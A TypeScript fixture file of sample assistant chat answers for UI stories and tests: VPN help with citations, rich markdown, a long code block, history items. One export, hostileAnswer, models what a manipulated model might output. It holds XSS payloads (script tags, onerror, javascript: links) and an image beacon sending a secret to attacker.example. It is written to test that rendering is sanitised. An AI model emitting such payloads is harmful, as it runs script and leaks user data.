// Sample chat data for stories and tests (not exported from the package).
import type { KnowledgeSource } from '@digital-assistant/sdk';
import type { ChatHistoryListItem } from '../Chat/ChatHistoryList';

/** Sources of a knowledge answer about the demo IT guide. */
export const itSources: Record<string, KnowledgeSource> = {
  '1': {
    context:
      'To connect to the VPN, open the GlobalProtect client, enter vpn.example.com as the portal and sign in with your company account. Approve the push notification on your phone.',
    references: ['it-onboarding-vpn-guide.md', '/api/knowledge/documents/it-onboarding-vpn-guide.md'],
    ...({ location: { headingPath: ['IT onboarding', 'VPN'] } } as object),
  } as KnowledgeSource,
  '2': {
    context:
      'If the client reports "portal unreachable", reset the network adapter from Settings > Network and try again. Persistent failures go to the IT service desk.',
    references: ['https://docs.example.com/it/vpn-troubleshooting.pdf'],
    ...({ page: 3 } as object),
  } as KnowledgeSource,
  '3': {
    context: 'Service desk hours are 8:00 to 18:00 CET, Monday to Friday.',
    references: ['IT service desk.pptx'],
    ...({ slide: 4 } as object),
  } as KnowledgeSource,
};

/** A knowledge answer citing sources 1 and 2, with a marker [7] that names no source. */
export const citedAnswer = `To connect to the VPN, open **GlobalProtect** and use \`vpn.example.com\` as the portal [1]. Approve the push notification on your phone [1].

If it says *portal unreachable*, reset the network adapter and try again [2]. The desk is open on weekdays [3][7].`;

/** An answer exercising most of GitHub-flavoured markdown. */
export const richAnswer = `## Rotating a database password

Here is what to do, step by step:

1. Generate a new password in the **vault**.
2. Update the secret:

   \`\`\`bash
   kubectl create secret generic db-password \\
     --from-literal=password="$NEW_PASSWORD" --dry-run=client -o yaml | kubectl apply -f -
   \`\`\`

3. Restart the pods.

| Environment | Owner | Rotation |
| --- | --- | --- |
| devops_preprod | DevOps | monthly |
| cs_preprod | CS | quarterly |

> Never paste passwords into chat.

- [x] Vault updated
- [ ] Pods restarted

See the [runbook](https://wiki.example.com/runbooks/db) for details.`;

/** A long single-line code block that must scroll sideways rather than widen the bubble. */
export const longCodeAnswer = `The query that times out:

\`\`\`sql
SELECT tenants.id, tenants.name, environments.region, environments.machine_type, environments.total_memory_gb, metrics.cpu_p95, metrics.memory_p95, metrics.collected_at FROM tenants JOIN environments ON environments.tenant_id = tenants.id JOIN metrics ON metrics.environment_id = environments.id WHERE metrics.collected_at > now() - interval '30 days' ORDER BY metrics.cpu_p95 DESC;
\`\`\`

${Array.from({ length: 40 }, (_, index) => `def step_${index}(value):\n    return value * ${index}  # keep`)
  .join('\n')
  .split('\n')
  .map((line, index) => (index === 0 ? `\`\`\`python\n${line}` : line))
  .join('\n')}
\`\`\``;

/** An answer a manipulated model could produce: none of it may run or navigate anywhere. */
export const hostileAnswer = `Here you go <script>window.__pwned = true</script>

<img src="x" onerror="window.__pwned = true">

<div onmouseover="window.__pwned = true">hover me</div>

Click [this harmless link](javascript:window.__pwned=true) or [this one](JaVaScRiPt:alert(1)) or [data](data:text/html,<script>alert(1)</script>).

![tracking pixel](https://attacker.example/collect?secret=123)

<a href="javascript:alert(1)">raw anchor</a>`;

/** A question from the user, as markdown. */
export const userQuestion = 'How do I connect to the **VPN** from home?';

/** Past conversations for the History list. */
export const sampleHistory: ChatHistoryListItem[] = [
  { conversationId: 'c-1', chipSummary: 'VPN setup from home' },
  { conversationId: 'c-2', chipSummary: 'Rotating database passwords in pre-prod' },
  { conversationId: 'c-3', chipSummary: 'Quarterly report formulas in Excel' },
  {
    conversationId: 'c-4',
    chipSummary: 'A very long conversation summary that does not fit on one line of the menu',
  },
];

/** The History with conversation `id` marked current. */
export function historyWithCurrent(id: string | null): ChatHistoryListItem[] {
  return sampleHistory.map((item) => ({ ...item, isCurrent: item.conversationId === id }));
}

/** The HTML table of an ELK answer. */
export const elkHtml = `<table class="metrics">
  <thead><tr><th>Time</th><th>CPU %</th><th>Memory %</th></tr></thead>
  <tbody>
    <tr><td>2026-11-20 10:00</td><td>71</td><td>64</td></tr>
    <tr><td>2026-11-20 11:00</td><td>92</td><td>70</td></tr>
  </tbody>
</table>`;
